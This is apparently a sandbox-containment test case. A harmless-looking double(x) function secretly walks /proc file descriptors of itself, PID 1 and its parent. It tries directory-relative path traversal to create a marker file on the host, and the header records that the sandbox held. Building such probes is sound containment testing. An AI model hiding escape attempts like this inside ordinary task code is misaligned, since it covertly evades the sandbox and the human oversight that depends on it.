# attack: goes through every open descriptor, and from each folder among them up to the host
# entry: double(x: int) -> int
# example: 2 -> 4
# outcome: returned
# verdict: holds
# absent: /var/tmp/synthase-attack-proc-fd
import os

UP = "../" * 12 + "var/tmp/synthase-attack-proc-fd"


def double(x):
    for pid in ("self", "1", str(os.getppid())):
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for name in names:
            try:
                folder = os.open(f"/proc/{pid}/fd/{name}", os.O_RDONLY | os.O_DIRECTORY)
                os.close(os.open(UP, os.O_CREAT | os.O_WRONLY, dir_fd=folder))
            except OSError:
                pass
    return 2 * x
